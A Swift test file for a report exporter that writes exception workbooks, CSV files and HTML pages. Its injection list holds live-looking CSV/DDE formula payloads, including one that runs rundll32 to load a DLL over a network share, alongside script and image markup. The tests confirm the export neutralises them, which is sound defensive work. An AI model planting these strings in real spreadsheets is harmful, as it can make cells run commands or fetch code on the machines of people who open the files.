import Foundation
import Insight
import Returns
import Testing

@testable import Reports

/// What a spreadsheet might run, or spoil, stays text in every form a report has.
struct HostileTextTests {
  /// Of the injection list, and characters that are no text.
  static let payloads = [
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'", "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "+1+1", "-2+3", "\t=1", "\r=1", "＝1+1", "<script>alert(1)</script>", "\"><img src=x>",
    "</t></is></c><c><f>1+1</f></c>", "_x0041_ is no A", "a\u{0}b\u{1B}[31m",
  ]

  private static func report(_ payload: String) -> DayReport {
    var finding = Finding(
      .refundMissing, identity: 5, subject: Text(payload), shop: 0, openedOn: SampleDay.day + -2)
    finding.expected = 12_900
    finding.actual = 0
    finding.currency = .cny
    finding.caseID = Text(payload)
    finding.notes = [.text(Text(payload)), .rival(id: Text(payload))]
    var row = ExceptionRow(
      finding: finding, exceptionID: publicID(finding.identity), version: 1, status: .open,
      ageDays: 2)
    row.note = payload
    row.decidedBy = payload
    row.decisionAmount = -500
    var report = SampleDay.report(.english)
    report.exceptions = [row]
    report.intake[0].file = payload
    report.intake[1].reason = payload
    return report
  }

  @Test(arguments: payloads) func noFormulaInTheWorkbook(payload: String) throws {
    let bytes = try DayWorkbook(Self.report(payload)).bytes()
    let sheets = try Self.sheets(bytes)
    for (name, xml) in sheets {
      let formulas = xml.components(separatedBy: "<f>").count - 1
      #expect(xml.components(separatedBy: "<f>SUMIF(").count - 1 == formulas, "\(name)")
      #expect(!xml.contains("<script") && !xml.contains("<img"))
      #expect(!xml.unicodeScalars.contains { $0.value < 32 && ![9, 10, 13].contains($0.value) })
    }
    let first = try #require(sheets["xl/worksheets/sheet1.xml"])
    // Text columns are formatted as text: what a person edits does not become a formula.
    #expect(first.contains("s=\"1\" t=\"inlineStr\"") || first.contains("s=\"15\" t=\"inlineStr\""))
    #expect(first.contains("<v>-129.00</v>") && first.contains("<v>-5.00</v>"))
  }

  @Test(arguments: payloads) func noCellOfTheCSVRuns(payload: String) {
    let report = Self.report(payload)
    let csv = string(exceptionsTable.csv(report.exceptions, report.context))
    #expect(csv.contains(",-129.00,"), "a negative number stays a number")
    guard "=+-@\t\r＝".contains(payload.first ?? "a") else { return }
    #expect(csv.contains("'" + payload.replacing("\"", with: "\"\"")))
  }

  @Test(arguments: payloads, reportPages.map(\.name))
  func noMarkupOfThePageIsTheirs(payload: String, name: String) throws {
    let page = try SampleDay.page(name, Self.report(payload))
    #expect(!page.contains("<script") && !page.contains("<img"))
    #expect(!page.unicodeScalars.contains { $0.value < 32 && ![9, 10, 13].contains($0.value) })
  }

  /// The members of the file, unpacked.
  static func sheets(_ bytes: [UInt8]) throws -> [String: String] {
    try WorkbookCheck(bytes).unpack().reduce(into: [:]) { $0[$1.name] = string($1.content) }
  }
}

struct DayWorkbookTests {
  @Test(arguments: ReportLanguage.allCases)
  func theSameFiguresGiveTheSameBytes(language: ReportLanguage) throws {
    let report = SampleDay.report(language)
    let one = try DayWorkbook(report).bytes()
    let other = try DayWorkbook(report).bytes { tasks in tasks.reversed().forEach { $0() } }
    #expect(one == other)
  }

  @Test func theFirstSheetIsExceptionsForDecisions() throws {
    let sheets = try HostileTextTests.sheets(DayWorkbook(SampleDay.report(.chinese)).bytes())
    let workbook = try #require(sheets["xl/workbook.xml"])
    #expect(workbook.contains("<sheet name=\"exceptions\" sheetId=\"1\""))
    #expect(workbook.contains("<sheet name=\"财务\""))
    let first = try #require(sheets["xl/worksheets/sheet1.xml"])
    for name in exceptionsTable.columnNames { #expect(first.contains(">\(name)</t>"), "\(name)") }
    #expect(first.contains("\"accept,write_off,match,"))
    #expect(first.contains("state=\"frozen\"") && first.contains("<autoFilter ref=\"A1:AB5\"/>"))
  }

  /// What does not fit is said, with what all of it comes to.
  @Test func whatDoesNotFitIsSaid() throws {
    var report = SampleDay.report(.english)
    report.exceptions = (0..<(workbookRows + 1)).map { index in
      ExceptionRow(
        finding: SampleDay.refundMissing, exceptionID: publicID(UInt64(index)), version: 1,
        status: .open, ageDays: 1)
    }
    report.figures = DayFigures()
    for row in report.exceptions { report.figures.add(row.finding, status: .open) }
    let sheets = try HostileTextTests.sheets(DayWorkbook(report).bytes())
    let finance = try #require(sheets["xl/worksheets/sheet3.xml"])
    #expect(
      finance.contains("1 more rows are in exceptions.csv; all rows come to 258,129.00 CNY."))
    #expect(finance.contains("<v>258000.00</v>"))
  }

  /// A total that is too long for a number is a text, as a long amount is. Read back, such a file
  /// holds what was written.
  @Test(arguments: [
    ([900_000_000_000_000, 900_000_000_000_000], ">18000000000000.00</t>"),
    ([999_999_999_999_999], "<f>SUMIF("),
    ([1_000_000_000_000_000, 1], ">10000000000000.01</t>"),
  ])
  func amountsOfAnyLengthAreReadBack(amounts: [Int64], total: String) throws {
    var report = SampleDay.report(.english)
    report.exceptions = amounts.enumerated().map { index, amount in
      var finding = SampleDay.refundMissing
      (finding.expected, finding.actual) = (amount, 0)
      return ExceptionRow(
        finding: finding, exceptionID: publicID(UInt64(index)), version: 1, status: .open,
        ageDays: 1)
    }
    report.figures = DayFigures()
    for row in report.exceptions { report.figures.add(row.finding, status: .open) }
    let finance = try #require(
      try HostileTextTests.sheets(DayWorkbook(report).bytes())["xl/worksheets/sheet3.xml"])
    #expect(finance.contains(total))
  }

  /// One changed digit, one row too few: a file that does not say what it should is never put in
  /// place.
  @Test func aFileThatSaysSomethingElseIsRefused() throws {
    let report = SampleDay.report(.english)
    let bytes = try DayWorkbook(report).bytes()
    var other = report
    other.exceptions[0].finding.expected = 4_500_100
    other.exceptions[0].finding.currency = .cny
    #expect(throws: WorkbookError.self) {
      try WorkbookCheck(bytes).compare(with: DayWorkbook(other).sheets)
    }
    other = report
    other.exceptions.removeLast()
    #expect(throws: WorkbookError.self) {
      try WorkbookCheck(bytes).compare(with: DayWorkbook(other).sheets)
    }
    #expect(throws: WorkbookError.self) {
      try WorkbookCheck(Array(bytes.dropLast())).compare(with: DayWorkbook(report).sheets)
    }
  }
}
